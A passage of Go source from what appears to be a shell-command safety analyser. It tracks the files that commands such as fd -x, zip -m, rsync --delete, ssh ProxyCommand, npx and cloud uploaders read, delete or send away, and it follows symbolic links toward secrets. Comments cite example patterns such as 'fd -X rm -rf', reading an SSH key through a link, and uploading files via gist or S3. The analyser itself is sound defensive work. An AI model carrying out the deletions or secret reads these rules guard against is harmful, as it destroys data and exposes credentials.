	"-d": true, "--max-depth": true, "--min-depth": true, "--exact-depth": true, "-S": true, "--size": true,
	"--changed-within": true, "--changed-before": true, "--change-newer-than": true, "--change-older-than": true,
	"-j": true, "--threads": true, "-c": true, "--color": true, "-o": true, "--owner": true, "--max-results": true,
	"--path-separator": true, "--ignore-file": true, "--format": true, "--base-directory": true, "--search-path": true,
	"--batch-size": true, "--exec-batch-size": true}

// fdExec follows fd -x/--exec and -X/--exec-batch into the command they
// run for what fd finds: the command and its arguments up to ";", with
// {} {/} {//} {.} {/.} standing for an entry below the search paths (fd
// appends {} when none is given), as find -exec's {} does.
func (r *run) fdExec(idx int, name string, args []field, st *state, sc scope) error {
	var roots []field
	var cmds [][]field
	var exts, words []string
	noLinks, follows, typed := false, false, false
	positional := 0
	for k := 0; k < len(args); k++ {
		a := args[k]
		t := a.text
		if len(t) > 2 && t[0] == '-' && t[1] != '-' && strings.ContainsAny(t, "xX") {
			// a cluster (-HIx): the exec option takes what follows
			if c := t[len(t)-1]; (c == 'x' || c == 'X') && strings.Count(t, "x")+strings.Count(t, "X") == 1 {
				t = "-" + string(c)
			} else {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " " + t, Cmd: idx})
				return nil
			}
		}
		if (t == "-e" || t == "--extension") && k+1 < len(args) && !args[k+1].dynamic {
			exts = append(exts, "*."+strings.TrimPrefix(args[k+1].text, "."))
		}
		if (t == "-t" || t == "--type") && k+1 < len(args) {
			typed = true
			if v := args[k+1].text; v == "f" || v == "file" || v == "d" || v == "directory" {
				noLinks = true // without -L fd lists no link as a file or directory
			}
		}
		if t == "-L" || t == "--follow" {
			follows = true
		}
		switch {
		case t == "-x" || t == "--exec" || t == "-X" || t == "--exec-batch":
			end := k + 1
			for end < len(args) && args[end].text != ";" {
				end++
			}
			cmds = append(cmds, args[k+1:end])
			k = end
		case a.dynamic && (strings.HasPrefix(t, "-") || k+1 < len(args)):
			// a word known only at run time may be -x, and the words
			// after it the command it runs
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " " + t, Cmd: idx})
			return nil
		case fdValueOpts[t]:
			if (t == "--search-path" || t == "--base-directory") && k+1 < len(args) {
				roots = append(roots, args[k+1])
			}
			k++
		case strings.HasPrefix(t, "--search-path=") || strings.HasPrefix(t, "--base-directory="):
			_, v, _ := strings.Cut(t, "=")
			roots = append(roots, field{text: v, pattern: v, dynamic: a.dynamic})
		case strings.HasPrefix(t, "-"):
		default:
			positional++
			if positional > 1 {
				roots = append(roots, a) // the first is the pattern
			} else if !a.dynamic && isLiteralRegex(t) && t != "" {
				// a plain word: names holding it (smart case: a lower-case
				// pattern matches any case)
				names := "*" + t + "*"
				if strings.ToLower(t) == t {
					names = "i:" + names
				}
				words = append(words, names)
			}
		}
	}
	if len(roots) == 0 {
		roots = []field{{text: ".", pattern: "."}}
	}
	for _, cmd := range cmds {
		if len(cmd) == 0 {
			continue
		}
		if err := r.fdCommand(idx, name, cmd, roots, words, exts, noLinks && !follows, len(words) == 0 && len(exts) == 0 && !typed, st, sc); err != nil {
			return err
		}
	}
	return nil
}

// fdCommand analyses one command fd runs for its entries below roots
// (fdExec): names narrow them (a plain pattern word, one extension),
// noLinks says none is a link, all that every entry is taken.
func (r *run) fdCommand(idx int, name string, cmd, roots []field, words, exts []string, noLinks, all bool, st *state, sc scope) error {
	placeholders := []string{"{}", "{/}", "{//}", "{.}", "{/.}"}
	has := false
	for _, a := range cmd {
		for _, ph := range placeholders {
			has = has || strings.Contains(a.text, ph)
		}
	}
	if !has {
		cmd = append(cmd[:len(cmd):len(cmd)], field{text: "{}", pattern: "{}"})
	}
	var sub []field
	for _, a := range cmd {
		hit := false
		for _, ph := range placeholders {
			hit = hit || strings.Contains(a.text, ph)
		}
		if !hit {
			sub = append(sub, a)
			continue
		}
		for _, s := range roots {
			text, pattern := a.text, a.pattern
			for _, ph := range placeholders {
				text = strings.ReplaceAll(text, ph, strings.TrimRight(s.text, "/")+"/{}")
				pattern = strings.ReplaceAll(pattern, ph, strings.TrimRight(s.pattern, "/")+"/*")
			}
			f := field{text: text, pattern: pattern, dynamic: s.dynamic, glob: true}
			if a.text == "{}" {
				f.listed = true
				f.noLinks = noLinks
				f.allEntries = all // fd -X rm -rf: everything below the root
				// what every entry passes: the pattern's word, and an
				// extension when only one is given (several are a choice)
				f.findNames = words
				if len(exts) == 1 {
					f.findNames = append(f.findNames[:len(f.findNames):len(f.findNames)], exts[0])
				}
			}
			sub = append(sub, f)
		}
	}
	if len(sub) > 0 && (sub[0].glob || sub[0].dynamic) {
		// fd -x {} runs what it finds
		r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "command_name", Text: name + " -x " + cmd[0].text, Cmd: idx})
		return nil
	}
	inner := sc
	inner.ctx = "nested-shell"
	_, err := r.simple(sub, st, inner, stdin{}, map[string]string{}, nil, []string{name})
	return err
}

// isLiteralRegex says whether a regular expression matches only its own
// text (letters, digits, _ and -).
func isLiteralRegex(s string) bool {
	for _, c := range s {
		if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_' || c == '-') {
			return false
		}
	}
	return true
}

// lsShowsDots says whether ls with these arguments prints "." and ".."
// (-a, -f, --all; -A does not).
func lsShowsDots(args []string) bool {
	for _, a := range args {
		if a == "--" {
			return false
		}
		if a == "--all" || len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.ContainsAny(a, "af") {
			return true
		}
	}
	return false
}

// entriesAt says whether the input's lines are entries of the file system
// (go list prints package import paths).
func (r *run) entriesAt(in stdin) bool {
	i := r.listerAt(in.fromIdx)
	return i < 0 || r.facts.Commands[i].Name != "go"
}

// trackedAt says whether the input comes straight from a git command
// listing tracked files (gitTracked).
func (r *run) trackedAt(in stdin) bool {
	i := r.listerAt(in.fromIdx)
	if i < 0 || r.facts.Commands[i].Name != "git" {
		return false
	}
	c := r.facts.Commands[i]
	return !c.Dynamic && gitListsTracked(c.Argv[1:])
}

// findInfo is what the analysis of a find learnt of what it prints.
type findInfo struct {
	names   []string // findNameTests
	noLinks bool     // findNoLinks
	named   bool     // findNamed
}

// listerAt follows a pipe back from command idx through filters that only
// drop lines (grep, head, sort …) to the command that printed them; -1
// when idx is not a command.
func (r *run) listerAt(idx int) int {
	for n := 0; idx >= 0 && idx < len(r.facts.Commands) && n < 16; n++ {
		c := r.facts.Commands[idx]
		switch c.Name {
		case "grep", "egrep", "fgrep", "head", "tail", "sort", "uniq":
			if c.StdinFrom == "" || hasOptText(c.Argv, 0, "--files0-from") || len(c.Argv) > 1 && (c.Name == "sort" || c.Name == "uniq") && hasOptText(c.Argv, 0, "--output") {
				return idx
			}
			idx = c.stdinIdx
			continue
		}
		return idx
	}
	if idx < 0 || idx >= len(r.facts.Commands) {
		return -1
	}
	return idx
}

// findNamesAt is findNameTests of the find printing command idx's lines.
func (r *run) findNamesAt(idx int) []string { return r.finds[r.listerAt(idx)].names }

// noLinksAt says whether command idx's lines come from a find that prints
// no symbolic links (findNoLinks).
func (r *run) noLinksAt(idx int) bool { return r.finds[r.listerAt(idx)].noLinks }

// findNoLinks says whether a find with these arguments prints no symbolic
// link: its expression is a plain conjunction with a -type test that
// excludes links ("f", "d", "f,d" …), and it does not follow links (-L,
// -follow), under which -type looks at the target instead.
func findNoLinks(args []string) bool {
	typed := false
	for j := 0; j < len(args); j++ {
		switch t := args[j]; t {
		case "-L", "-follow", "-xtype", "-o", "-or", "!", "-not", "(", ")", ",":
			return false
		case "-type":
			if j+1 >= len(args) || args[j+1] == "" || strings.ContainsRune(args[j+1], 'l') {
				return false
			}
			typed = true
			j++
		}
	}
	return typed
}

// findNamedAt says whether command idx is a find printing only entries
// picked by a name test (findNamed).
func (r *run) findNamedAt(idx int) bool { return r.finds[idx].named }

// zipMove: zip -m/--move deletes the files it put in the archive (the
// operands after the archive's name).
func (r *run) zipMove(idx int, args []field, st *state, in stdin) {
	move, names := false, false
	var operands []field
	for k := 0; k < len(args); k++ {
		t := args[k].text
		switch {
		case t == "--move":
			move = true
		case t == "-@" || t == "--names-stdin":
			names = true
		case strings.HasPrefix(t, "--"):
		case len(t) > 1 && t[0] == '-' && !args[k].dynamic:
			if strings.ContainsRune(t[1:], 'm') {
				move = true
			}
			if strings.ContainsRune(t[1:], '@') {
				names = true // -rm@: names from stdin, in a bundle
			}
			if strings.IndexByte("xibnt", t[len(t)-1]) >= 0 && k+1 < len(args) {
				k++ // the value of the bundle's last option
			}
		default:
			operands = append(operands, args[k])
		}
	}
	if names {
		// zip -@: the names come from stdin (ls | zip -rm x.zip -@); with
		// -m they are deleted afterwards
		acc := "read"
		if move {
			acc = "delete"
		}
		items, _ := r.inputItems(in, true)
		for _, it := range items {
			r.addPath(it, st, acc, idx, "zip")
		}
	}
	if !move {
		return
	}
	if len(operands) < 2 {
		return
	}
	for _, o := range operands[1:] {
		r.addPath(o, st, "delete", idx, "zip")
	}
}

// rsyncDeletes: --delete (and its variants) deletes what the destination
// holds beyond the source; --remove-source-files deletes the sources.
func (r *run) rsyncDeletes(idx int, args []field, st *state) {
	del, removeSrc := false, false
	var operands []field
	for k := 0; k < len(args); k++ {
		t := args[k].text
		switch {
		case t == "--del" || strings.HasPrefix(t, "--delete"):
			del = true
		case t == "--remove-source-files":
			removeSrc = true
		case t == "-e" || t == "--rsh" || t == "-f" || t == "--filter" || t == "--exclude" || t == "--include" || t == "-B" || t == "-T":
			k++
		case strings.HasPrefix(t, "-"):
		default:
			operands = append(operands, args[k])
		}
	}
	if len(operands) < 2 {
		return
	}
	if del {
		dst := operands[len(operands)-1]
		if !strings.Contains(dst.text, ":") {
			r.addPath(dst, st, "delete", idx, "rsync")
		}
	}
	if removeSrc {
		for _, s := range operands[:len(operands)-1] {
			if !strings.Contains(s.text, ":") {
				r.addPath(s, st, "delete", idx, "rsync")
			}
		}
	}
}

// splitOutputs adds the files split and csplit write: PREFIX followed by a
// suffix (split FILE PREFIX, default x; csplit -f PREFIX, default xx).
func (r *run) splitOutputs(idx int, name string, args []field, st *state) {
	isC := strings.HasSuffix(name, "csplit")
	valued := "abClnt" // split's options that take a value
	if isC {
		valued = "fbn"
	}
	prefix := field{text: "x", pattern: "x"}
	if isC {
		prefix = field{text: "xx", pattern: "xx"}
	}
	suffix := ""
	var operands []field
	args = expandArgs(args, splitLongs...)
	for k := 0; k < len(args); k++ {
		a := args[k]
		t := a.text
		switch {
		case t == "--":
			operands = append(operands, args[k+1:]...)
			k = len(args)
		case strings.HasPrefix(t, "--prefix="):
			prefix = field{text: t[len("--prefix="):], pattern: a.pattern[min(len("--prefix="), len(a.pattern)):], dynamic: a.dynamic}
		case t == "--prefix" && k+1 < len(args):
			prefix = args[k+1]
			k++
		case strings.HasPrefix(t, "--additional-suffix="):
			suffix = t[len("--additional-suffix="):]
		case strings.HasPrefix(t, "--suffix-format="):
			suffix = suffixFormat(t[len("--suffix-format="):])
		case strings.HasPrefix(t, "--"):
			if !strings.Contains(t, "=") && (t == "--bytes" || t == "--lines" || t == "--line-bytes" || t == "--number" || t == "--suffix-length" || t == "--suffix-format" || t == "--digits" || t == "--filter" || t == "--separator" || t == "--additional-suffix") && k+1 < len(args) {
				if t == "--additional-suffix" {
					suffix = args[k+1].text
				}
				k++
			}
		case len(t) > 1 && t[0] == '-' && !a.dynamic:
			for j := 1; j < len(t); j++ {
				if strings.IndexByte(valued, t[j]) < 0 {
					continue
				}
				v := t[j+1:]
				vf := field{text: v, pattern: v}
				if v == "" && k+1 < len(args) {
					vf = args[k+1]
					k++
				}
				if isC && t[j] == 'f' {
					prefix = vf
				}
				if isC && t[j] == 'b' {
					suffix = suffixFormat(vf.text)
				}
				break
			}
		default:
			operands = append(operands, a)
		}
	}
	if !isC && len(operands) >= 2 {
		prefix = operands[1]
	}
	out := field{text: prefix.text + "*" + suffix, pattern: prefix.pattern + "*" + suffix, glob: true, dynamic: true}
	r.addPath(out, st, "write", idx, name)
}

// suffixFormat turns csplit's printf-style suffix into a pattern (each
// conversion a "*"); a slash in it makes the files land elsewhere.
func suffixFormat(f string) string {
	var b strings.Builder
	for i := 0; i < len(f); i++ {
		if f[i] == '%' && i+1 < len(f) {
			if f[i+1] == '%' {
				b.WriteByte('%')
				i++
				continue
			}
			j := i + 1
			for j < len(f) && strings.IndexByte("0123456789.-+ #'", f[j]) >= 0 {
				j++
			}
			b.WriteByte('*')
			i = j
			continue
		}
		b.WriteByte(f[i])
	}
	return b.String()
}

// commandOption analyses the value of option opt (-C CMD, or -CCMD) of a
// builtin that evaluates it as a command line; a value not known
// statically is a nested script.
func (r *run) commandOption(idx int, args []field, opt string, st *state, sc scope) error {
	for _, v := range optionValues(args, opt) {
		if v.dynamic {
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: v.text, Cmd: idx})
			continue
		}
		if err := r.nested(v.text, st, sc, "nested-shell"); err != nil {
			return err
		}
	}
	return nil
}

// optionValues returns the values given to the one-letter option opt
// ("-C"): -C VALUE, -CVALUE, or bundled -tC VALUE, -tCVALUE, up to "--".
func optionValues(args []field, opt string) []field {
	var out []field
	for k := 0; k < len(args); k++ {
		a := args[k]
		var v field
		switch {
		case a.text == "--":
			return out
		case a.text == opt && k+1 < len(args):
			v = args[k+1]
			k++
		case strings.HasPrefix(a.text, opt) && len(a.text) > len(opt):
			v = field{text: a.text[len(opt):], pattern: a.pattern[min(len(opt), len(a.pattern)):], dynamic: a.dynamic}
		case len(a.text) > 2 && a.text[0] == '-' && a.text[1] != '-' && strings.IndexByte(a.text[1:], opt[1]) >= 0:
			// bundled: -tC CMD, -tCCMD
			i := strings.IndexByte(a.text[1:], opt[1]) + 2
			if i < len(a.text) {
				v = field{text: a.text[i:], pattern: a.text[i:], dynamic: a.dynamic}
			} else if k+1 < len(args) {
				v = args[k+1]
				k++
			} else {
				continue
			}
		default:
			continue
		}
		out = append(out, v)
	}
	return out
}

// listsWhole says whether the producer of in is an ls that prints every
// entry of the directories it lists (no -d, no -I/--ignore/--hide).
func (r *run) listsWhole(in stdin) bool {
	if in.from != "ls" || in.fromIdx < 0 || in.fromIdx >= len(r.facts.Commands) {
		return false
	}
	for _, a := range r.facts.Commands[in.fromIdx].Argv[1:] {
		switch {
		case a == "--":
			return true
		case strings.HasPrefix(a, "--"):
			if strings.HasPrefix(a, "--ignore") || strings.HasPrefix(a, "--hide") || a == "--directory" {
				return false
			}
		case strings.HasPrefix(a, "-") && strings.ContainsAny(a, "dI"):
			return false
		}
	}
	return true
}

// pythonModule knows the standard modules that write a path operand.
func (r *run) pythonModule(idx int, name, mod string, args []field, st *state) {
	var ops []field
	for k := 0; k < len(args); k++ {
		t := args[k].text
		switch {
		case (t == "-d" || t == "--dest" || t == "-t" || t == "--target" || t == "--prefix" || t == "--root" || t == "-o" || t == "--output") && k+1 < len(args):
			if mod == "pip" || mod == "zipapp" {
				r.addPath(args[k+1], st, "write", idx, name)
			}
			k++
		case strings.HasPrefix(t, "-"):
		default:
			ops = append(ops, args[k])
		}
	}
	write := func(i int) {
		if i >= 0 && i < len(ops) {
			r.addPath(ops[i], st, "write", idx, name)
		}
	}
	switch mod {
	case "venv", "virtualenv":
		for i := range ops {
			write(i)
		}
	case "json.tool":
		write(1)
	case "zipfile", "tarfile":
		for k, a := range args {
			if (a.text == "-c" || a.text == "--create") && k+1 < len(args) {
				r.addPath(args[k+1], st, "write", idx, name)
			}
			if (a.text == "-e" || a.text == "--extract") && k+2 < len(args) {
				r.addPath(args[k+2], st, "write", idx, name)
			}
		}
	case "py_compile", "compileall":
	}
}

// sshOptions: ssh's -o options that run local commands (ProxyCommand,
// LocalCommand, KnownHostsCommand, Match exec) and scp/sftp -S PROGRAM.
func (r *run) sshOptions(idx int, name string, args []field, st *state, sc scope) error {
	local := map[string]bool{"proxycommand": true, "localcommand": true, "knownhostscommand": true}
	// config: a configuration file (-F, -o Include) can hold ProxyCommand,
	// LocalCommand and Match exec lines, which ssh runs here before it
	// connects: only the user's own (~/.ssh) and none are read as data.
	config := func(v field, how string) {
		t := r.tilde(v.text)
		home := r.opts.Home
		if !v.dynamic && (t == "none" || t == "/dev/null" || home != "" && (strings.HasPrefix(t, home+"/.ssh/") || strings.HasPrefix(t, "~/.ssh/"))) {
			return
		}
		r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: name + " " + how + " " + v.text + " (its ProxyCommand, LocalCommand and Match exec lines run here)", Cmd: idx})
	}
	option := func(v field) error {
		key, val, ok := strings.Cut(v.text, "=")
		if !ok {
			key, val, _ = strings.Cut(strings.TrimSpace(v.text), " ")
		}
		key = strings.ToLower(strings.TrimSpace(key))
		switch {
		case local[key]:
			return r.scriptArg(idx, field{text: strings.TrimSpace(val), pattern: val, dynamic: v.dynamic}, st, sc)
		case key == "match" && strings.Contains(strings.ToLower(val), "exec"):
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "ssh Match exec", Cmd: idx})
		case key == "include":
			config(field{text: strings.TrimSpace(val), pattern: strings.TrimSpace(val), dynamic: v.dynamic}, "-o Include")
		case key == "userknownhostsfile" || key == "globalknownhostsfile" || key == "controlpath":
			// ssh adds host keys to the known-hosts file, makes its
			// control socket at ControlPath
			for _, f := range strings.Fields(val) {
				if f != "none" && f != "/dev/null" && !strings.Contains(f, "%") {
					r.addPath(field{text: f, pattern: f, dynamic: v.dynamic, glob: v.dynamic}, st, "write", idx, name)
				}
			}
		}
		return nil
	}
	for k, a := range args {
		t := a.text
		switch {
		case (t == "-F" || t == "-E") && k+1 < len(args) || (strings.HasPrefix(t, "-F") || strings.HasPrefix(t, "-E")) && len(t) > 2:
			v := field{text: t[2:], pattern: t[2:], dynamic: a.dynamic}
			if len(t) == 2 {
				v = args[k+1]
			}
			if t[1] == 'E' {
				r.addPath(v, st, "write", idx, name) // -E: the debug log is appended there
			} else {
				config(v, "-F")
			}
		case t == "-o" && k+1 < len(args):
			if err := option(args[k+1]); err != nil {
				return err
			}
		case strings.HasPrefix(t, "-o") && len(t) > 2:
			if err := option(field{text: t[2:], pattern: t[2:], dynamic: a.dynamic}); err != nil {
				return err
			}
		case t == "-S" && k+1 < len(args) && (name == "scp" || name == "sftp"):
			if err := r.scriptArg(idx, args[k+1], st, sc); err != nil {
				return err
			}
		}
	}
	return nil
}

// cloudUpload marks local files that cloud and forge clients send away:
// aws s3 cp/sync/mv, gsutil cp/rsync, rclone copy/sync/move, gh gist create,
// gh release upload, az storage blob upload.
func (r *run) cloudUpload(idx int, name string, args []field, st *state) {
	var ops []string
	var fields []field
	for _, a := range args {
		if !strings.HasPrefix(a.text, "-") {
			ops = append(ops, a.text)
			fields = append(fields, a)
		}
	}
	remoteish := func(s string) bool {
		return strings.Contains(s, "://") || remote(s)
	}
	upload := func(f field) {
		r.addPath(f, st, "read", idx, name)
		r.facts.Paths[len(r.facts.Paths)-1].Role = "upload"
	}
	switch {
	case name == "aws" && len(ops) >= 4 && ops[0] == "s3" && (ops[1] == "cp" || ops[1] == "sync" || ops[1] == "mv"),
		name == "s3cmd" && len(ops) >= 3 && (ops[0] == "put" || ops[0] == "sync"):
		start := 2
		if name == "s3cmd" {
			start = 1
		}
		if remoteish(ops[len(ops)-1]) {
			for i := start; i < len(ops)-1; i++ {
				if !remoteish(ops[i]) {
					upload(fields[i])
				}
			}
		}
	case (name == "gsutil" || name == "rclone" || name == "azcopy") && len(ops) >= 3:
		if remoteish(ops[len(ops)-1]) {
			for i := 1; i < len(ops)-1; i++ {
				if !remoteish(ops[i]) {
					upload(fields[i])
				}
			}
		}
	case name == "gh" && len(ops) >= 3 && ops[0] == "gist" && ops[1] == "create":
		for i := 2; i < len(ops); i++ {
			upload(fields[i])
		}
	case name == "gh" && len(ops) >= 4 && ops[0] == "release" && ops[1] == "upload":
		for i := 3; i < len(ops); i++ {
			upload(fields[i])
		}
	}
}

// building says whether the words so far name a build (docker build,
// buildx build, image build, builder build).
func building(sub string, ops []field) bool {
	return sub == "build" || (sub == "buildx" || sub == "image" || sub == "builder") && len(ops) > 0 && ops[0].text == "build"
}

// buildContext is the context operand of docker/podman build (also
// buildx build, image build, builder build): the last operand.
func buildContext(sub string, ops []field) (field, bool) {
	if sub == "buildx" || sub == "image" || sub == "builder" {
		if len(ops) == 0 || ops[0].text != "build" {
			return field{}, false
		}
		sub, ops = "build", ops[1:]
	}
	if sub != "build" || len(ops) == 0 {
		return field{}, false
	}
	return ops[len(ops)-1], true
}

var containerValueOpts = map[string]bool{"-u": true, "--user": true, "-w": true, "--workdir": true, "-e": true, "--env": true,
	"--name": true, "-p": true, "--publish": true, "--network": true, "--net": true, "-h": true, "--hostname": true,
	"--entrypoint": true, "-l": true, "--label": true, "--platform": true, "--cpus": true, "-m": true, "--memory": true,
	"--restart": true, "--cap-add": true, "--cap-drop": true, "--security-opt": true, "--pid": true, "--ipc": true,
	"--device": true, "--add-host": true, "--dns": true, "--log-driver": true, "--tmpfs": true, "--ulimit": true}

// buildValueOpts are the options of a build that take a value (-t is a
// flag for run, a tag for build).
var buildValueOpts = map[string]bool{"-t": true, "--tag": true, "--build-arg": true, "--target": true, "--cache-from": true,
	"--cache-to": true, "--progress": true, "--builder": true, "--build-context": true, "--label": true, "--platform": true,
	"--network": true, "--add-host": true, "--shm-size": true, "--ulimit": true, "--annotation": true, "--attest": true,
	"--sbom": true, "--provenance": true, "--call": true, "--allow": true}

type trap struct {
	body string
	sc   scope
}

// localNodeBin: "npx TOOL …" (or npm exec -- TOOL) runs
// node_modules/.bin/TOOL when it exists or when told not to install;
// returns that argv, or nil when npx would fetch from the registry.
func (r *run) localNodeBin(name string, args []field, st *state) []field {
	k := 0
	if name == "npm" {
		if len(args) == 0 || args[0].text != "exec" {
			return nil
		}
		k = 1
	}
	noInstall := false
	for k < len(args) && strings.HasPrefix(args[k].text, "-") {
		switch args[k].text {
		case "--no-install", "--no", "--offline", "--prefer-offline":
			noInstall = true
		case "--":
		case "-c", "--call", "-p", "--package":
			return nil
		}
		k++
	}
	if k >= len(args) || args[k].dynamic || st.cwd == "" {
		return nil
	}
	tool := args[k].text
	bin := st.cwd + "/node_modules/.bin/" + tool
	if _, err := os.Stat(bin); err != nil && !noInstall {
		return nil
	}
	out := []field{{text: "node_modules/.bin/" + tool, pattern: "node_modules/.bin/" + tool}}
	return append(out, args[k+1:]...)
}

// valueField is the part of an argument after its key (of=, --file=),
// keeping what is known about the argument's dynamic parts. A value that
// starts with one (of=$(cat f), of="${a[@]}") could be any absolute path.
func valueField(a field, key, v string) field {
	pattern := strings.TrimPrefix(a.pattern, key)
	return field{text: v, pattern: pattern, dynamic: a.dynamic, subst: a.subst, wild: a.wild, glob: a.glob,
		leadOpen: a.dynamic && !a.proc && strings.HasPrefix(pattern, "*")}
}

// followsLinksDown says whether a command walks the directories it is given
// and follows the symbolic links it meets there: grep -R, rg -L, ag -f,
// find -L/-follow, cp -L, tar -h (bsdtar -L), rsync -L, zip -r (unless -y),
// chmod/chown/chgrp -R -L, ugrep -R/-S, ack --follow, pax -L,
// mkisofs -f, fd -L running a command on what it finds, and jar c (always).
func followsLinksDown(name string, args []field) bool {
	has := func(short byte, long ...string) bool { return hasOpt(args, short, long...) }
	switch name {
	case "grep", "egrep", "fgrep":
		return has('R', "--dereference-recursive")
	case "ugrep", "ug":
		// -S follows links to files while recursing
		return has('R', "--dereference-recursive") || has('S', "--dereference-files")
	case "ack", "ack-grep":
		return has(0, "--follow")
	case "pax":
		return has('L')
	case "mkisofs", "genisoimage", "xorrisofs":
		return has(0, "-f", "-follow-links", "--follow-links")
	case "fd", "fdfind":
		// what fd finds through a link, the command it runs reads
		return has('L', "--follow") && (has('x', "--exec") || has('X', "--exec-batch"))
	case "jar":
		// jar stores what a link points to, never the link
		tree, _ := readsTree(name, args)
		return tree
	case "rg":
		return has('L', "--follow")
	case "ag":
		return has('f', "--follow")
	case "find":
		return has(0, "-L", "-follow")
	case "cp":
		return has('L', "--dereference")
	case "tar", "bsdtar":
		// old-style bundles need no dash: tar chf out.tar .
		// (bsdtar, the tar of macOS and the BSDs, follows with -L; to GNU
		// tar -L is a tape length, rarely given)
		old := len(args) > 0 && !strings.HasPrefix(args[0].text, "-") && strings.ContainsAny(args[0].text, "hL") && !strings.ContainsAny(args[0].text, "/.")
		return old || has('h', "--dereference") || has('L')
	case "rsync":
		return has('L', "--copy-links", "--copy-unsafe-links", "--copy-dirlinks") || has('k')
	case "zip":
		return (has('r', "--recurse-paths") || has('R', "--recurse-patterns")) && !has('y', "--symlinks")
	case "diff":
		return has('r', "--recursive") && !has(0, "--no-dereference") // diff -r follows links
	case "scp":
		return has('r') // scp -r follows links
	case "chmod", "chown", "chgrp":
		return has('R', "--recursive") && has('L')
	}
	return false
}

// pseudoFS says whether p lies in /proc, /sys or /dev, whose links lead
// anywhere.
func pseudoFS(p string) bool {
	for _, d := range []string{"/proc", "/sys", "/dev"} {
		if p == d || strings.HasPrefix(p, d+"/") {
			return true
		}
	}
	return false
}

// linksBelow adds, for each existing workspace directory command idx uses,
// the symbolic links below it, with the same access: the command follows
// them, so a link to ~/.ssh inside the tree is read (or changed) through.
func (r *run) linksBelow(idx int, name string, st *state, cwdToo bool) {
	type use struct{ dir, access string }
	var uses []use
	for _, p := range r.facts.Paths {
		if p.Cmd != idx || p.Glob || !p.Exists || (p.Access != "read" && p.Access != "write" && p.Access != "delete") {
			continue
		}
		fi, err := os.Stat(p.Real)
		if err != nil || !fi.IsDir() {
			continue
		}
		if p.Zone != "workspace" && p.Zone != "workspace_root" {
			// outside, the directory is judged as a whole by the rules;
			// but below /proc, /sys and /dev links lead anywhere (grep -R
			// x link_to_proc_self reaches /proc/self/root, every file)
			if pseudoFS(p.Real) {
				below := strings.TrimSuffix(p.Abs, "/") + "/*"
				r.addPath(field{text: below, pattern: below, dynamic: true, glob: true}, st, p.Access, idx, name)
			}
			continue
		}
		uses = append(uses, use{p.Real, p.Access})
	}
	operands := false
	for _, p := range r.facts.Paths {
		if p.Cmd == idx && p.Access != "cwd" {
			operands = true
		}
	}
	if (!operands && (name == "rg" || name == "ag" || name == "find" || strings.HasSuffix(name, "grep") || searchesCwd(name) || name == "fd" || name == "fdfind") || cwdToo) && st.cwd != "" {
		// no directory given: they search the working directory
		if z := r.cls.zone(st.cwd); z == "workspace" || z == "workspace_root" {
			uses = append(uses, use{st.cwd, "read"})
		}
	}
	budget := linkWalkBudget
	for _, u := range uses {
		if !r.linksUnder(u.dir, u.access, idx, name, st, &budget, nil) {
			return
		}
	}
}

// linksUnder adds the symbolic links below dir (a workspace directory) as
// paths of command idx with the given access, walking at most *budget
// entries (.git left out: nothing may write inside it); keep, when not
// nil, picks the links by their path. Links the script itself made below dir
// count too. Past the budget whatever lies below is unknown, and
// linksUnder says false.
func (r *run) linksUnder(dir, access string, idx int, name string, st *state, budget *int, keep func(string) bool) bool {
	var walk func(d string)
	walk = func(d string) {
		ents, err := readDir(d)
		if err != nil {
			return
		}
		r.stats.seed(d, ents)
		for _, e := range ents {
			if *budget--; *budget < 0 {
				return
			}
			p := d + "/" + e.Name()
			switch {
			case e.Type()&os.ModeSymlink != 0:
				if keep != nil && !keep(p) {
					continue
				}
				f := field{text: p, pattern: p}
				if real, ok, _ := r.resolve(p); ok && r.realDir(real) {
					// a directory: the command goes on below it
					r.addPath(f, st, access, idx, name)
					if pseudoFS(real) {
						r.addPath(field{text: p + "/*", pattern: p + "/*", dynamic: true, glob: true}, st, access, idx, name)
					}
					continue
				}
				// a file: it matters when it is a secret, or not a plain
				// file one may read (.venv/bin/python -> ~/.pyenv is
				// read, and harmless)
				if lp := r.classifyPath(f, st, access, idx, name); lp.Sensitive || access != "read" || lp.Zone == "unknown" || lp.Zone == "proc_private" || lp.Zone == "device" {
					r.addPath(f, st, access, idx, name)
				}
			case e.IsDir() && e.Name() != ".git":
				walk(p)
			}
		}
	}
	walk(dir)
	// links the script itself made below (ln -s .. src/up && grep -R x
	// src): not on disk yet, followed all the same
	for _, link := range slices.Sorted(maps.Keys(r.links)) {
		if link != dir && under(link, dir) && (keep == nil || keep(link)) {
			r.addPath(field{text: link, pattern: link}, st, access, idx, name)
		}
	}
	if *budget < 0 {
		// more than is worth reading: whatever lies below is unknown
		r.addPath(field{text: dir + "/*", pattern: dir + "/*", dynamic: true, glob: true, wild: true}, st, access, idx, name)
		r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "walk_budget", Text: dir, Cmd: idx})
		return false
	}
	return true
}

// linkWalkBudget bounds the entries read below a directory whose links a
// command follows (linksBelow, entryLinks); tests lower it.
var linkWalkBudget = 50000

// entryLinks: a command given entries a lister printed (find . -exec cat
// {} +, find . | xargs cat, while read f; … "$f", $(find .)) gets any
// entry below the lister's directory, links included, and follows them:
// cat ./link_to_ssh_key reads the key. So the links below that directory
// (those passing the find's -name tests) are its paths too, unless the
// lister prints no links (find -type f). Commands acting on the link
// itself (rm, mv, git) are left out by the caller.
func (r *run) entryLinks(idx int, name string, st *state) {
	budget := linkWalkBudget
	n := len(r.facts.Paths)
	for i := 0; i < n; i++ {
		p := r.facts.Paths[i]
		if p.Cmd != idx || !p.listed || !p.Glob || p.noLinks || p.link || !strings.HasSuffix(p.Real, "/*") ||
			(p.Access != "read" && p.Access != "write" && p.Access != "delete") {
			continue
		}
		dir, exists, _ := r.resolve(strings.TrimSuffix(p.Real, "/*"))
		if !exists || !r.realDir(dir) {
			continue
		}
		if z := r.cls.zone(dir); z != "workspace" && z != "workspace_root" {
			continue // judged as a whole by the rules, as for linksBelow
		}
